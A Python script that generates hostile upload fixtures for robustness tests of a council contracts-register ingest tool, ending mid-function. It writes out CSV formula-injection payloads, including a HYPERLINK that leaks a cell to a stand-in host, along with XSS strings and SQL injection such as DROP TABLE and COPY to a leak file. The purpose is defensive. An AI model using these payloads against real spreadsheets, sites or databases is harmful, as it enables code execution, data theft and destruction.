"""Write the hostile upload files the robustness tests read (run from the repository root).

    python tests/data/hostile/make_files.py

Each file attacks the upload path in one way: not a table at all, an encoding or line ending
from the wild, a structure that breaks naive readers, text meant to run as a formula, as script
or as SQL, absurd values, JSON and workbooks built to exhaust memory. `FILES` are committed
(each well under 1 MB); `LARGE` (megabytes, or 100,000 rows) are made by the tests into a
temporary folder from the same functions. Everything is deterministic: no clock, no randomness
without a fixed seed. Files holding compressed data (`COMPRESSED`) may differ byte for byte when
made with another zlib; their members are the same.

This script also writes README.md, the list of files and what each attacks.
"""

from __future__ import annotations

import codecs
import csv
import gzip
import io
import json
import random
import re
import struct
import zipfile
import zlib
from collections.abc import Callable
from datetime import date, datetime
from pathlib import Path

from openpyxl import Workbook

HERE = Path(__file__).resolve().parent
Builder = Callable[[], bytes]
FILES: dict[str, tuple[Builder, str]] = {}  # committed: name -> (builder, what it attacks)
LARGE: dict[str, tuple[Builder, str]] = {}  # made at test time into a temporary folder
COMPRESSED = {"gzip_renamed.csv", "zip_bomb.xlsx", "zip_bomb_lying_sizes.xlsx"}
MAX_COLUMNS = 500  # citydata.ingest.MAX_COLUMNS (not imported: this script stands alone)
MAX_ROWS = 500_000  # citydata.ingest.MAX_ROWS
MAX_UNPACKED_BYTES = 400 * 1024 * 1024  # citydata.ingest.read.MAX_UNPACKED_BYTES
_FIXED_TIME = (1980, 1, 1, 0, 0, 0)


def committed(name: str, what: str) -> Callable[[Builder], Builder]:
    def register(fn: Builder) -> Builder:
        FILES[name] = (fn, what)
        return fn

    return register


def large(name: str, what: str) -> Callable[[Builder], Builder]:
    def register(fn: Builder) -> Builder:
        LARGE[name] = (fn, what)
        return fn

    return register


# ---- building blocks --------------------------------------------------------------------------

HEADER = [
    "Borough", "Service area", "System", "Vendor", "Manufacturer", "Contract start",
    "Contract end", "Annual value", "Hosting", "Satisfaction", "Reference",
]  # fmt: skip
ROWS = [
    ["Camden", "Housing", "Northgate Housing", "Northgate Public Services", "NEC",
     "01/04/2021", "31/03/2027", "£45,000.00", "On premises", "4", "CAM-001"],
    ["Islington", "Libraries", "Spydus", "Civica", "Civica", "01/04/2020", "31-Mar-27",
     "£12500", "Cloud", "3", "ISL-002"],
    ["Hackney", "Planning", "Uniform", "Idox plc", "Idox", "2019-04-01", "2027-03-31",
     "9999.5", "Hosted", "5", "HAC-003"],
]  # fmt: skip
ASCII_ROW = ["Camden", "Housing", "Northgate Housing", "Northgate Public Services", "NEC",
             "01/04/2021", "31/03/2027", "45000", "On premises", "4", "CAM-001"]  # fmt: skip
# Payloads that run as a formula when a spreadsheet opens the cell (OWASP "CSV Injection").
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
FORMULAS = {
    "=": '=HYPERLINK("http://example.invalid/?leak="&A1,"Open")',
    "+": "+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C notepad'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t": "\t=1+1",
    "\r": '\r=IMPORTXML("http://example.invalid","//a")',
}
SCRIPTS = [
    '<script>alert("system")</script>',
    "<img src=x onerror=alert('vendor')>",
    "[click me](javascript:alert('maker'))",
    '"><svg onload=alert(1)>',
    "<iframe src=\"javascript:alert('x')\"></iframe>",
    "**bold** _em_ # heading ![img](http://example.invalid/x.png)",
    "{{7*7}} ${7*7} <%= 7*7 %>",
    "&lt;script&gt;alert('entity')&lt;/script&gt;",
    "</td></tr><tr><td>cell",
    ":material/warning: :red[alarm] $$x^2$$",
]
SQL = [
    "'); DROP TABLE contracts; --",
    "Robert'); DROP TABLE snapshots;--",
    "' OR '1'='1",
    "1; DELETE FROM contracts WHERE 1=1",
    "$1 $name ? %s :name",
    "\\'; DROP TABLE raw_files; --",
    '" OR ""="',
    "'; ATTACH '/tmp/x.duckdb' AS x; --",
    "'); COPY contracts TO '/tmp/leak.csv'; --",
    "*/ UNION SELECT * FROM snapshots /*",
]


def csv_bytes(
    rows: list[list[str]],
    *,
    encoding: str = "utf-8",
    newline: str = "\r\n",
    delimiter: str = ",",
) -> bytes:
    out = io.StringIO(newline="")
    csv.writer(out, delimiter=delimiter, lineterminator=newline).writerows(rows)
    return out.getvalue().encode(encoding)


def _stable_zip(members: list[tuple[str, bytes]], compression: int = zipfile.ZIP_STORED) -> bytes:
    """A ZIP of `members` with fixed timestamps, so the same input gives the same bytes."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as z:
        for name, data in members:
            info = zipfile.ZipInfo(name, date_time=_FIXED_TIME)
            info.compress_type = compression
            info.external_attr = 0o644 << 16
            z.writestr(info, data)
    return buffer.getvalue()


class F(str):
    """A cell written as a formula (openpyxl stores no cached value for it)."""


def xlsx(sheets: dict[str, list[list]], *, hidden: tuple[str, ...] = ()) -> bytes:
    """A workbook of `sheets`; text cells stay text (a leading '=' is not a formula unless F)."""
    wb = Workbook()
    wb.remove(wb.active)
    for title, rows in sheets.items():
        ws = wb.create_sheet(title)
        if title in hidden:
            ws.sheet_state = "hidden"
        for r, row in enumerate(rows, start=1):
            for c, value in enumerate(row, start=1):
                if value is None:
                    continue
                cell = ws.cell(row=r, column=c)
                cell.value = str(value) if isinstance(value, F) else value
                if isinstance(value, str) and not isinstance(value, F):
                    cell.data_type = "s"
    fixed = datetime(2026, 1, 1)
    wb.properties.created = wb.properties.modified = fixed
    buffer = io.BytesIO()
    wb.save(buffer)
    return _restamp(buffer.getvalue())


def _restamp(content: bytes) -> bytes:
    """The same ZIP with fixed member times and document dates (openpyxl stamps 'now')."""
    members = []
    with zipfile.ZipFile(io.BytesIO(content)) as z:
        for info in z.infolist():
            data = z.read(info.filename)
            if info.filename == "docProps/core.xml":
                data = re.sub(
                    rb"(<dcterms:modified[^>]*>)[^<]*", rb"\g<1>2026-01-01T00:00:00Z", data
                )
            members.append((info.filename, data))
    return _stable_zip(members)


def register_xlsx() -> bytes:
    return xlsx({"Contracts": [HEADER, *ROWS]})


# ---- not a table -------------------------------------------------------------------------------


@committed("empty.csv", "0 bytes")
def _empty() -> bytes:
    return b""


@committed("whitespace_only.csv", "spaces, tabs and line breaks only")
def _whitespace() -> bytes:
    return b" \t \r\n\n   \r\n\t\n" * 20


@committed("bom_only.csv", "a UTF-8 byte-order mark and a line break, nothing else")
def _bom_only() -> bytes:
    return codecs.BOM_UTF8 + b"\r\n"


@committed("nul_bytes.csv", "4 KB of NUL bytes")
def _nul_bytes() -> bytes:
    return b"\x00" * 4096


@committed("nul_in_register.csv", "a good register with a NUL byte inside a vendor name")
def _nul_in_register() -> bytes:
    rows = [HEADER, *ROWS]
    rows[1] = [*rows[1][:3], "Northgate\x00Public Services", *rows[1][4:]]
    return csv_bytes(rows)


@committed("binary_noise.csv", "4 KB of seeded random bytes")
def _binary_noise() -> bytes:
    return random.Random(20260101).randbytes(4096)


@committed("control_characters.csv", "text that is mostly control characters, without NUL")
def _control_characters() -> bytes:
    return (b"Borough,System\r\n" + bytes(range(1, 9)) * 64 + b"\r\n") * 4


@committed("png_renamed.csv", "a PNG image named .csv")
def _png() -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        crc = struct.pack(">I", zlib.crc32(kind + data))
        return struct.pack(">I", len(data)) + kind + data + crc

    raw = b"\x00\xff\x00\x00"  # one red pixel, filter byte first
    idat = zlib.compress(raw, 0)  # stored block: the same bytes with any zlib
    ihdr = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", idat) + chunk(b"IEND", b"")


@committed("pdf_renamed.csv", "a PDF document named .csv")
def _pdf() -> bytes:
    return b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"


@committed("zip_renamed.csv", "a ZIP archive (holding a CSV) named .csv")
def _zip() -> bytes:
    return _stable_zip([("register.csv", csv_bytes([HEADER, *ROWS]))])


@committed("docx_renamed.csv", "a Word document (a ZIP with word/) named .csv")
def _docx() -> bytes:
    return _stable_zip(
        [
            ("[Content_Types].xml", b'<?xml version="1.0"?><Types/>'),
            ("word/document.xml", b'<?xml version="1.0"?><w:document/>'),
        ]
    )


@committed("ods_renamed.xlsx", "an OpenDocument spreadsheet named .xlsx")
def _ods() -> bytes:
    return _stable_zip(
        [
            ("mimetype", b"application/vnd.oasis.opendocument.spreadsheet"),
            ("content.xml", b'<?xml version="1.0"?><office:document-content/>'),
        ]
    )


@committed("gzip_renamed.csv", "a gzip-compressed CSV named .csv")
def _gzip() -> bytes:
    return gzip.compress(csv_bytes([HEADER, *ROWS]), mtime=0)


@committed("xls_renamed.csv", "an old-style Excel (OLE2) file named .csv")
def _xls() -> bytes:
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 1016


@committed("html_renamed.csv", "a web page (a sign-in page saved instead of the export)")
def _html() -> bytes:
    return (
        b"\r\n  <!DOCTYPE html>\n<html><head><title>Sign in</title></head><body>"
        b"<table><tr><td>Borough</td><td>System</td></tr></table></body></html>\n"
    )


@committed("xml_renamed.csv", "an XML document named .csv")
def _xml() -> bytes:
    return b'<?xml version="1.0"?>\n<contracts><contract borough="Camden"/></contracts>\n'


@committed("damaged.xlsx", "a ZIP signature followed by garbage")
def _damaged() -> bytes:
    return b"PK\x03\x04" + random.Random(7).randbytes(2048)


@committed("truncated.xlsx", "a real workbook cut off half way")
def _truncated() -> bytes:
    content = register_xlsx()
    return content[: len(content) // 2]


@committed("xlsx_renamed.csv", "a real Excel register named .csv (read as the workbook it is)")
def _xlsx_renamed() -> bytes:
    return register_xlsx()


@committed("csv_renamed.xlsx", "a CSV register named .xlsx (read as the CSV it is)")
def _csv_renamed() -> bytes:
    return csv_bytes([HEADER, *ROWS])


@committed("json_renamed.csv", "an OCDS release package named .csv")
def _json_renamed() -> bytes:
    return json.dumps(_ocds_package(_ocds_release("ocds-h-1", "Mosaic", "Servelec"))).encode()


# ---- encodings ---------------------------------------------------------------------------------

WESTERN_ROWS = [
    HEADER,
    ["Lambeth", "Children’s social care", "Mosaic", "Café Systems Ltd", "Servelec",
     "01/04/2021", "31/03/2027", "£250,000", "Cloud", "4", "LAM-1"],
    ["Lambeth", "Housing", "Renée Housing", "Müller & Søn Ltd", "Müller",
     "01/04/2022", "30/09/2028", "£18500.50", "On premises", "3", "LAM-2"],
]  # fmt: skip


@committed("enc_utf8.csv", "UTF-8 without a byte-order mark: accents, £, €, CJK, emoji")
def _enc_utf8() -> bytes:
    rows = [*WESTERN_ROWS, [*WESTERN_ROWS[1][:2], "富士通 Mosaic 🚀", "Société €uro", *ROWS[0][4:]]]
    rows[-1][-1] = "LAM-3"
    return csv_bytes(rows)


@committed("enc_utf8_bom.csv", "UTF-8 with a byte-order mark (Excel's 'CSV UTF-8')")
def _enc_utf8_bom() -> bytes:
    return codecs.BOM_UTF8 + csv_bytes(WESTERN_ROWS)


@committed("enc_utf16le_bom.csv", "UTF-16 little-endian with BOM, tab-delimited (Excel)")
def _enc_utf16le() -> bytes:
    return codecs.BOM_UTF16_LE + csv_bytes(WESTERN_ROWS, encoding="utf-16-le", delimiter="\t")


@committed("enc_utf16be_bom.csv", "UTF-16 big-endian with BOM, comma-delimited")
def _enc_utf16be() -> bytes:
    return codecs.BOM_UTF16_BE + csv_bytes(WESTERN_ROWS, encoding="utf-16-be")


@committed("enc_utf16_no_bom.csv", "UTF-16 without a BOM (NUL in every other byte)")
def _enc_utf16_no_bom() -> bytes:
    return csv_bytes(WESTERN_ROWS, encoding="utf-16-le")


@committed("enc_cp1252.csv", "Windows-1252 (Excel on Windows): £, é, ü, ø, curly apostrophe")
def _enc_cp1252() -> bytes:
    return csv_bytes(WESTERN_ROWS, encoding="cp1252")


@committed("enc_mac_roman.csv", "Mac Roman with CR line ends (old Excel on a Mac)")
def _enc_mac_roman() -> bytes:
    return csv_bytes(WESTERN_ROWS, encoding="mac_roman", newline="\r")


LATIN_ROWS = [
    HEADER,
    ["Lambeth", "Housing", "Système", "Société Générale Müller", "Müller", "01/04/2021",
     "31/03/2027", "£1000", "Cloud", "4", "LAM-9"],
]  # fmt: skip


@committed("enc_latin1.csv", "ISO-8859-1 (latin-1): é, ü, £")
def _enc_latin1() -> bytes:
    return csv_bytes(LATIN_ROWS, encoding="latin-1")


@committed("enc_iso8859_15.csv", "ISO-8859-15 (latin-9): é, ü, £ (and € where 8859-1 has ¤)")
def _enc_iso8859_15() -> bytes:
    rows = [HEADER, [*LATIN_ROWS[1][:3], "Société Générale Müller €", *LATIN_ROWS[1][4:]]]
    return csv_bytes(rows, encoding="iso8859_15")


@committed("enc_shift_jis_field.csv", "ASCII register with a Shift-JIS vendor name in one field")
def _enc_shift_jis() -> bytes:
    return csv_bytes([HEADER, ASCII_ROW]) + csv_bytes(
        [["Camden", "Housing", "Fujitsu Housing", "富士通株式会社", "Fujitsu", "01/04/2021",
          "31/03/2027", "1000", "Cloud", "4", "CAM-JP"]],
        encoding="shift_jis",
    )  # fmt: skip


@committed("enc_gbk_field.csv", "ASCII register with a GBK (Simplified Chinese) vendor name")
def _enc_gbk() -> bytes:
    return csv_bytes([HEADER, ASCII_ROW]) + csv_bytes(
        [["Camden", "Housing", "Huawei Cloud", "华为技术有限公司", "Huawei", "01/04/2021",
          "31/03/2027", "1000", "Cloud", "4", "CAM-CN"]],
        encoding="gbk",
    )  # fmt: skip


@committed("enc_mixed_utf8_cp1252.csv", "two files pasted together: UTF-8 lines, then cp1252")
def _enc_mixed() -> bytes:
    return csv_bytes(WESTERN_ROWS[:2]) + csv_bytes(WESTERN_ROWS[2:], encoding="cp1252")


@committed("enc_bad_utf8_after_bom.csv", "a UTF-8 byte-order mark, then bytes that are not UTF-8")
def _enc_bad_utf8() -> bytes:
    return codecs.BOM_UTF8 + csv_bytes(WESTERN_ROWS, encoding="cp1252")


@committed("enc_utf16_odd_length.csv", "a UTF-16 byte-order mark and an odd number of bytes")
def _enc_utf16_odd() -> bytes:
    return codecs.BOM_UTF16_LE + csv_bytes(WESTERN_ROWS, encoding="utf-16-le") + b"\x41"


# ---- line endings ------------------------------------------------------------------------------


@committed("eol_mixed.csv", "\\r\\n, \\n and \\r line ends in one file")
def _eol_mixed() -> bytes:
    ends = ["\r\n", "\n", "\r", "\n"]
    return b"".join(csv_bytes([r], newline=e) for r, e in zip([HEADER, *ROWS], ends, strict=True))


@committed("eol_cr_only.csv", "\\r only (classic Mac)")
def _eol_cr() -> bytes:
    return csv_bytes([HEADER, *ROWS], newline="\r")


# ---- structure ---------------------------------------------------------------------------------


@committed("header_only.csv", "a header row and nothing under it")
def _header_only() -> bytes:
    return csv_bytes([HEADER])


@committed("duplicated_headers.csv", "System and Vendor twice each, with different values")
def _duplicated_headers() -> bytes:
    rows = [["Borough", "System", "Vendor", "System", "Vendor", "Contract end"]]
    rows += [["Camden", "Mosaic", "Servelec", "Other system", "Other vendor", "31/03/2027"]]
    return csv_bytes(rows)


@committed("same_header_everywhere.csv", "every column is called Vendor")
def _same_header() -> bytes:
    return csv_bytes([["Vendor"] * 5, ["Camden", "Mosaic", "Servelec", "x", "y"]])


@committed("no_header_numbers.csv", "numbers only: no row names the columns")
def _no_header() -> bytes:
    return csv_bytes([[str(i * j) for j in range(6)] for i in range(1, 20)])


@committed("one_column.csv", "one column of words: no borough, system or vendor")
def _one_column() -> bytes:
    return csv_bytes([["Notes"], *([w] for w in ("alpha", "beta", "gamma", "delta"))])


@committed("columns_501.csv", "one column more than the 500 accepted")
def _columns_501() -> bytes:
    header = ["Borough", "System", "Vendor"] + [f"Extra {i}" for i in range(MAX_COLUMNS - 2)]
    return csv_bytes([header, ["Camden", "Mosaic", "Servelec"] + [""] * (MAX_COLUMNS - 2)])


@committed("unclosed_quote.csv", "a quote opened on row 3 and never closed")
def _unclosed_quote() -> bytes:
    good = csv_bytes([HEADER, ROWS[0]])
    return good + b'Islington,Libraries,"Spydus,Civica,Civica,01/04/2020\r\n' + csv_bytes(ROWS[1:])


@committed("ragged_extreme.csv", "rows of 1 value and of 400 values under an 11-column header")
def _ragged() -> bytes:
    return csv_bytes([HEADER, ROWS[0], ["Camden"], [*ROWS[1], *(["x"] * 389)], ROWS[2]])


@committed("hostile_header_names.csv", "column names that are formulas, script and SQL")
def _hostile_headers() -> bytes:
    header = ["Borough", "System", "Vendor", "=cmd|' /C calc'!A0", "<script>alert(1)</script>",
              "'); DROP TABLE contracts; --", "+SUM(1)", "@x", "-1"]  # fmt: skip
    return csv_bytes([header, ["Camden", "Mosaic", "Servelec", "a", "b", "c", "d", "e", "f"]])


@committed("long_header_missing_fields.csv", "a 100,000-character column name, no system/vendor")
def _long_header() -> bytes:
    return csv_bytes([["Borough", "N" * 100_000], ["Camden", "x"]])


# ---- text meant to run ------------------------------------------------------------------------


def _formula_rows() -> list[list[str]]:
    rows = [HEADER]
    for i, start in enumerate(FORMULA_STARTS, start=1):
        payload = FORMULAS[start]
        rows.append(
            ["Camden", "Housing", payload, payload, payload, "01/04/2021", "31/03/2027",
             "1000", "Cloud", "4", f"{start}REF-{i}" if start not in "\t\r" else payload]
        )  # fmt: skip
    # Formulas where a value, a date, a score or a borough is expected: those rows are refused.
    rows.append(["Camden", "Housing", "Mosaic", "Servelec", "", "", "", "=1+1", "", "", "V"])
    rows.append(["Camden", "Housing", "Mosaic", "Servelec", "", "", "=TODAY()", "", "", "", "D"])
    rows.append(["Camden", "Housing", "Mosaic", "Servelec", "", "", "", "", "", "@SUM(5)", "S"])
    rows.append(["=Camden", "Housing", "Mosaic", "Servelec", "", "", "", "", "", "", "B"])
    return rows


@committed("formula_injection.csv", "=, +, -, @, tab and CR at the start of every text field")
def _formula_csv() -> bytes:
    return csv_bytes(_formula_rows())


@committed("formula_injection.xlsx", "the same payloads as text cells of a workbook")
def _formula_xlsx() -> bytes:
    return xlsx({"Contracts": _formula_rows()})


@committed("html_script.csv", "script, HTML, markdown and template syntax in every text field")
def _html_script() -> bytes:
    rows = [HEADER]
    for i, s in enumerate(SCRIPTS, start=1):
        rows.append(["Camden", "Housing", s, s, s, "01/04/2021", "31/03/2027", "1000",
                     "Cloud", "4", f"{s} #{i}"])  # fmt: skip
    return csv_bytes(rows)


@committed("sql_injection.csv", "SQL fragments in every text field and in the borough")
def _sql() -> bytes:
    rows = [HEADER]
    for i, s in enumerate(SQL, start=1):
        rows.append(["Camden", "Housing", s, s, s, "01/04/2021", "31/03/2027", "1000",
                     "Cloud", "4", f"{s} #{i}"])  # fmt: skip
    rows.append(["Camden'); DROP TABLE contracts; --", "Housing", "x", "y", "", "", "", "", "",
                 "", "B"])  # fmt: skip
    return csv_bytes(rows)


@committed("unicode_tricks.csv", "right-to-left override, zero-width joiners, a Cyrillic 'С'")
def _unicode_tricks() -> bytes:
    rows = [HEADER]
    rows.append(["Camden", "Housing", "Mosaic\u202etxt.exe", "Serve\u200dlec", "A\u0301\u0301",
                 "01/04/2021", "31/03/2027", "1000", "Cloud", "4", "U-1"])  # fmt: skip
    rows.append(["\u0421amden", "Housing", "Mosaic", "Servelec", "", "", "", "", "", "", "U-2"])
    return csv_bytes(rows)


# ---- values ------------------------------------------------------------------------------------


@committed("long_strings.csv", "100,000 characters in the system, vendor, maker and reference")
def _long_strings() -> bytes:
    def long(prefix: str) -> str:
        return prefix + "x" * (100_000 - len(prefix))

    row = ["Camden", "Housing", long("Mosaic"), long("Servelec"), long("Maker"), "01/04/2021",
           "31/03/2027", "1000", "Cloud", "4", long("REF")]  # fmt: skip
    return csv_bytes([HEADER, row])


@committed("long_values_refused.csv", "100,000 characters where a date, amount or borough goes")
def _long_values() -> bytes:
    long = "9" * 100_000
    rows = [HEADER, ROWS[0]]
    rows.append(["Camden", "Housing", "A", "V", "", "", f"01/01/{long}", "", "", "", "1"])
    rows.append(["Camden", "Housing", "B", "V", "", "", "", f"x{long}", "", "", "2"])
    rows.append(["Camden", "Housing", "C", "V", "", "", "", "", "", f"s{long}", "3"])
    rows.append([f"b{long}", "Housing", "D", "V", "", "", "", "", "", "", "4"])
    rows.append(["Camden", f"s{long}", "E", "V", "", "", "", "", f"h{long}", "", "5"])
    return csv_bytes(rows)


@committed("dates_extreme.csv", "years 1 and 9999 written every way, and impossible days")
def _dates_extreme() -> bytes:
    rows = [HEADER, ROWS[0]]
    ends = ["01/01/0001", "0001-01-01", "31/12/9999", "9999-12-31", "9999-12-31T23:59:59Z",
            "0001-01-01T00:00:00+14:00", "31 December 9999", "1 Jan 1", "2958465", "-1",
            "1e308", "0000-00-00", "00/00/0000", "32/13/2027", "29/02/2100"]  # fmt: skip
    for i, end in enumerate(ends, start=1):
        rows.append(["Camden", "Housing", f"S{i}", "V", "", "01/04/2020", end, "", "", "", f"D{i}"])
    return csv_bytes(rows)


@committed("numbers_absurd.csv", "1e308, NaN, Infinity, -0, 10^30, hex and non-Latin digits")
def _numbers() -> bytes:
    values = ["1e308", "-1e308", "NaN", "nan", "Infinity", "-Infinity", "inf", "-0", "0.0000001",
              "1e-308", "999999999999999.99", "1000000000000000", "9" * 32, "0x1F", "1_000",
              "١٢٣", "£-0", "(0)"]  # fmt: skip
    rows = [HEADER]
    for i, value in enumerate(values, start=1):
        rows.append(["Camden", "Housing", f"S{i}", "V", "", "", "", value, "", "", f"N{i}"])
    for i, score in enumerate(["NaN", "inf", "1e0", "-0", "5.0000000001", "3"], start=1):
        rows.append(["Camden", "Housing", f"T{i}", "V", "", "", "", "", "", score, f"Q{i}"])
    return csv_bytes(rows)


@committed("xlsx_numbers_absurd.xlsx", "number cells: 1e308, -1e308, -0.0, 1e-308, 10^30, 3.5")
def _xlsx_numbers() -> bytes:
    rows = [HEADER]
    absurd = [1e308, -1e308, -0.0, 1e-308, 10**30, 3.5]
    for i, value in enumerate(absurd, start=1):
        rows.append(["Camden", "Housing", f"S{i}", "V", "", "", "", value, "", 4, f"N{i}"])
    for i, value in enumerate(absurd, start=1):
        rows.append(["Camden", "Housing", f"T{i}", "V", "", "", "", 100, "", value, f"Q{i}"])
    return xlsx({"Contracts": rows})


@committed("xlsx_dates_extreme.xlsx", "date cells on 1 Jan 1900 and 31 Dec 9999; text year 1")
def _xlsx_dates() -> bytes:
    rows = [HEADER, ROWS[0]]
    ends = [datetime(1900, 1, 1), datetime(9999, 12, 31), date(9999, 12, 31), "01/01/0001"]
    for i, end in enumerate(ends, start=1):
        rows.append(["Camden", "Housing", f"S{i}", "V", "", "", end, "", "", "", f"D{i}"])
    return xlsx({"Contracts": rows})


@committed("xlsx_dates_in_value_column.xlsx", "date cells where the annual value goes")
def _xlsx_dates_in_value() -> bytes:
    rows = [HEADER, ROWS[0]]
    rows.append(["Camden", "Housing", "Mosaic", "Servelec", "", "", "", date(2027, 3, 31), "",
                 "", "V-1"])  # fmt: skip
    return xlsx({"Contracts": rows})


# ---- JSON --------------------------------------------------------------------------------------


def _ocds_release(ocid: str, title: object, supplier: object, **extra: object) -> dict:
    release = {
        "ocid": ocid,
        "id": f"{ocid}-award",
        "tag": ["award"],
        "buyer": {"name": "London Borough of Camden"},
        "tender": {"classification": {"scheme": "CPV", "id": "48000000"}},  # software
        "awards": [
            {
                "id": "1",
                "title": title,
                "value": {"amount": 1000, "currency": "GBP"},
                "suppliers": [{"name": supplier}],
                "contractPeriod": {"startDate": "2021-04-01", "endDate": "2027-03-31"},
            }
        ],
    }
    release.update(extra)
    return release


def _ocds_package(*releases: dict) -> dict:
    return {"version": "1.1", "uri": "https://example.invalid/package.json", "releases": releases}


@committed("json_deep_array.json", "arrays nested 10,000 levels deep")
def _json_deep_array() -> bytes:
    return b"[" * 10_000 + b"]" * 10_000


@committed("json_deep_object.json", "objects nested 10,000 levels deep")
def _json_deep_object() -> bytes:
    return b'{"releases":' * 10_000 + b"[]" + b"}" * 10_000


@committed("json_deep_in_csv.csv", "deeply nested JSON named .csv")
def _json_deep_csv() -> bytes:
    return b"[" * 10_000 + b"]" * 10_000


@committed("json_huge_array.json", "a flat array of 400,000 numbers (about 800 KB)")
def _json_huge_array() -> bytes:
    return b"[" + b",".join([b"0"] * 400_000) + b"]"


@committed("json_many_empty_releases.json", "30,000 releases with an ocid and nothing else")
def _json_many_empty() -> bytes:
    return json.dumps([{"ocid": i} for i in range(30_000)], separators=(",", ":")).encode()


@committed("json_not_ocds.json", "valid JSON that is not a release package")
def _json_not_ocds() -> bytes:
    return json.dumps({"name": "council data", "data": [{"a": 1}, {"b": [1, 2]}]}).encode()


@committed("json_scalar.json", "a JSON string, not an object or array")
def _json_scalar() -> bytes:
    return b'"Borough,System,Vendor\\nCamden,Mosaic,Servelec"'


@committed("json_null.json", "the JSON value null")
def _json_null() -> bytes:
    return b"null"


@committed("json_invalid.json", "a release package cut off part way")
def _json_invalid() -> bytes:
    return json.dumps(_ocds_package(_ocds_release("ocds-h-2", "Mosaic", "Servelec"))).encode()[:90]


@committed("json_nan_infinity.json", "OCDS amounts NaN, Infinity and -Infinity (JSON extensions)")
def _json_nan() -> bytes:
    releases = []
    for i, amount in enumerate(["NaN", "Infinity", "-Infinity", "1e308"], start=1):
        release = _ocds_release(f"ocds-h-n{i}", f"System {i}", "Servelec")
        release["awards"][0]["value"]["amount"] = f"@{amount}@"
        releases.append(release)
    text = json.dumps(_ocds_package(*releases))
    return re.sub(r'"@([^@]+)@"', r"\1", text).encode()


@committed("json_ocds_hostile.json", "an OCDS award whose title and supplier are formulas/script")
def _json_hostile() -> bytes:
    releases = [
        _ocds_release(f"ocds-h-x{i}", payload, payload)
        for i, payload in enumerate([FORMULAS["="], SCRIPTS[0], SQL[0], FORMULAS["@"]], start=1)
    ]
    return json.dumps(_ocds_package(*releases)).encode()


@committed("json_ocds_type_confusion.json", "OCDS fields of the wrong JSON type (numbers, lists)")
def _json_types() -> bytes:
    releases = [
        _ocds_release("ocds-h-t1", ["a", "list"], {"name": {"nested": 1}}),
        _ocds_release("ocds-h-t2", 12345, True, parties=7, awards=[{"suppliers": 5}]),
        _ocds_release("ocds-h-t3", "Mosaic", "Servelec", buyer=["x"], parties=[{"roles": 3}]),
        _ocds_release("ocds-h-t4", "Mosaic", "Servelec", awards={"not": "a list"}, tender=9),
    ]
    return json.dumps(_ocds_package(*releases)).encode()


# ---- workbooks ---------------------------------------------------------------------------------


@committed(
    "xlsx_many_sheets.xlsx", "120 sheets; the register is the 100th, after empty and decoy ones"
)
def _many_sheets() -> bytes:
    sheets: dict[str, list[list]] = {}
    for i in range(1, 121):
        if i == 100:
            sheets["Register"] = [HEADER, *ROWS]
        elif i % 3 == 0:
            sheets[f"Notes {i}"] = [["Just some notes"], ["nothing to see"]]
        else:
            sheets[f"Empty {i}"] = []
    return xlsx(sheets)


@committed("xlsx_empty_sheets.xlsx", "five sheets, all empty")
def _empty_sheets() -> bytes:
    return xlsx({f"Sheet{i}": [] for i in range(1, 6)})


@committed("xlsx_formulas.xlsx", "formula cells (never calculated) and text that looks like one")
def _xlsx_formulas() -> bytes:
    rows = [HEADER]
    rows.append(["Camden", "Housing", F("=HYPERLINK(\"http://example.invalid\",\"x\")"),
                 F("=1+1"), "=SUM(A1:A9)", "01/04/2021", F("=TODAY()"), F("=2*500"), "Cloud",
                 "4", "F-1"])  # fmt: skip
    rows.append(["Camden", "Housing", "Mosaic", "=cmd|' /C calc'!A0", "@SUM(1)", "01/04/2021",
                 "31/03/2027", "1000", "Cloud", "4", "F-2"])  # fmt: skip
    return xlsx({"Contracts": rows})


@committed("xlsx_merged_cells.xlsx", "a merged title above the header and a merged borough column")
def _merged() -> bytes:
    wb = Workbook()
    ws = wb.active
    ws.title = "Contracts"
    ws["A1"] = "London Borough of Camden: ICT contracts"
    ws.merge_cells("A1:K1")
    for c, name in enumerate(HEADER, start=1):
        ws.cell(row=2, column=c, value=name)
    for r, row in enumerate(ROWS, start=3):
        for c, value in enumerate(row, start=1):
            ws.cell(row=r, column=c, value=value if c != 1 else None)
    ws["A3"] = "Camden"
    ws.merge_cells("A3:A5")
    wb.properties.created = wb.properties.modified = datetime(2026, 1, 1)
    buffer = io.BytesIO()
    wb.save(buffer)
    return _restamp(buffer.getvalue())


@committed("xlsx_wide_16384.xlsx", "one cell in the last column Excel has (XFD)")
def _wide_xlsx() -> bytes:
    rows: list[list] = [list(HEADER), list(ROWS[0])]
    rows[0] += [None] * (16_384 - len(HEADER) - 1) + ["far away"]
    return xlsx({"Contracts": rows})


@committed("xlsx_false_dimension.xlsx", "a register whose sheet claims to span A1:XFD1048576")
def _false_dimension() -> bytes:
    content = register_xlsx()
    members = []
    with zipfile.ZipFile(io.BytesIO(content)) as z:
        for info in z.infolist():
            data = z.read(info.filename)
            if info.filename.startswith("xl/worksheets/sheet"):
                data = re.sub(rb'<dimension ref="[^"]*"', b'<dimension ref="A1:XFD1048576"', data)
            members.append((info.filename, data))
    return _stable_zip(members)


@committed("xlsx_error_cells.xlsx", "#REF!, #DIV/0!, #N/A and #NAME? in the fields")
def _error_cells() -> bytes:
    rows = [HEADER]
    rows.append(["Camden", "#REF!", "Mosaic", "#N/A", "#NAME?", "#DIV/0!", "#VALUE!", "#NUM!",
                 "#NULL!", "#N/A", "E-1"])  # fmt: skip
    rows.append(["Camden", "Housing", "#REF!", "#REF!", "", "", "", "", "", "", "E-2"])
    return xlsx({"Contracts": rows})


@committed("xlsx_hostile_sheet_names.xlsx", "sheets named like formulas, script and SQL")
def _sheet_names() -> bytes:
    return xlsx(
        {
            "=cmd|' calc'!A0": [["nothing"]],
            "<script>alert(1)<": [["nothing"]],
            "'); DROP TABLE x; --": [HEADER, *ROWS],
        }
    )


@committed("xlsx_hidden_decoy.xlsx", "a hidden sheet of script before the visible register")
def _hidden_decoy() -> bytes:
